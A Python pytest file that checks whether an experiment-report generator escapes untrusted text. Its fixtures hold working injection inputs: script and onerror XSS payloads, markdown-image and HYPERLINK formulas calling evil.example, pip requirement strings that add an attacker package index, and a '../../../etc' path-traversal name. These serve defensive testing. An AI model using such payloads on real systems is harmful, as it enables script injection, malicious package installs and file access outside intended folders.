"""What strangers wrote into runs: it stays text, in the report and in the files beside it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from reading_pages import outside_addresses, report, rows_of
from reported_runs import METHODS, add_run, add_study, recipe_of

from workbench.store import read_json, write_json

HOSTILE = (
    "<script>alert(1)</script>",
    "![x](http://evil.example/x.png)",
    '=HYPERLINK("http://evil.example")',
    "</style><img src=x onerror=alert(1)>",
    "{{ 7 * 7 }} {% raw %}",
)


def test_what_strangers_wrote_stays_text(runs: Path) -> None:
    texts = [HOSTILE[i % len(HOSTILE)] for i in range(30)]
    classes = ("a", "b", HOSTILE[0])
    labels = [classes[i % 3] for i in range(30)]
    for method in METHODS:
        answers = [labels[i] if i % 2 else HOSTILE[0] for i in range(30)]
        answers = labels if method == "full" else answers
        path = add_run(runs, recipe_of(method), 0, texts=texts, labels=labels,
                       predictions=answers, known=classes)  # fmt: skip
        record = read_json(path / "result.json") or {}
        write_json(path / "result.json", record | {"recipe": f"{HOSTILE[1]} {method}",
                   "references": {HOSTILE[2]: {"accuracy": 0.5}}})  # fmt: skip
        with open(path / "recipe.yaml", "a", encoding="utf-8") as file:
            file.write(f"# {HOSTILE[0]} {HOSTILE[3]}\n")
    page, folder = report(runs, title=HOSTILE[0])
    assert not {tag for tag, _ in page.tags} & {"script", "img"}
    assert not [name for _, attributes in page.tags for name in attributes if name.startswith("on")]
    assert outside_addresses(page) == []
    for text in HOSTILE:
        assert text in page.text
    markdown = (folder / "report.md").read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)(<script|<img|</style|!\[x\])", markdown)
    assert r"\<script\>" in markdown
    names = [p.relative_to(folder).as_posix() for p in folder.rglob("*.yaml")]
    assert len(names) == 3 and all(re.fullmatch(r"recipes/[\w.=-]+", name) for name in names)
    for table in folder.rglob("*.csv"):
        for line in csv.reader(io.StringIO(table.read_text(encoding="utf-8"))):
            for cell in line:
                number = re.fullmatch(r"-?[\d.]+(e[+-]?\d+)?", cell)
                assert number or not cell.startswith(("=", "+", "-", "@")), (table, cell)


@pytest.mark.usefixtures("undrawn")
def test_packages_that_are_none_are_not_written_for_pip(runs: Path) -> None:
    path = add_run(runs, recipe_of("lora"), 0)
    packages = {
        "torch": "2.13.0+cpu\n--extra-index-url http://evil.example/simple",
        "peft\n--no-index": "1",
        "x @ http://evil.example/x.whl #": "1",
        "peft-workbench": "0\n--no-index",
        "ruamel.yaml": "0.18.6",
        "numpy": "2.1.0rc1",
        "deepspeed": None,
        "evaluate": 3,
    }
    write_json(path / "environment.json", {"packages": packages})
    _, folder = report(runs)
    lines = (folder / "requirements.txt").read_text().splitlines()
    assert lines == [
        "# peft-workbench of an unknown version",
        "ruamel.yaml==0.18.6",
        "numpy==2.1.0rc1",
    ]


@pytest.mark.usefixtures("undrawn")
def test_recipes_called_as_columns_keep_their_answers(runs: Path) -> None:
    labels = ["a", "b", "a"]
    for name, said in (("label", ["b", "b", "b"]), ("text", ["a", "b", "b"])):
        add_run(runs, recipe_of("lora" if name == "text" else "full", name=name), 0,
                texts=["one", "two", "three"], labels=labels, predictions=said)  # fmt: skip
    _, folder = report(runs)
    (line,) = rows_of(folder / "tables" / "disagreements.csv")
    assert (line["label"], line["text"], line["id"]) == ("a", "one", "doc/0")
    assert (line["label says"], line["text says"], line["text seeds right"]) == ("b", "a", "1")


@pytest.mark.usefixtures("undrawn")
def test_a_name_that_climbs_out_of_the_folder_does_not(runs: Path) -> None:
    path = add_run(runs, recipe_of("lora"), 0)
    record = read_json(path / "result.json") or {}
    write_json(path / "result.json", record | {"recipe": "../../../etc/lora"})
    _, folder = report(runs)
    assert [p.name for p in folder.rglob("*.yaml")] == ["etc-lora.yaml"]


def test_without_texts_no_text_of_the_data_is_in_the_report(
    runs: Path, request: pytest.FixtureRequest
) -> None:
    add_study(runs, texts=[f"secret {i}" for i in range(30)])
    _, folder = report(runs, texts=0)
    for path in folder.rglob("*"):
        assert path.is_dir() or b"secret" not in path.read_bytes(), path
    request.getfixturevalue("undrawn")
    _, folder = report(runs)
    assert "secret" in (folder / "report.html").read_text()
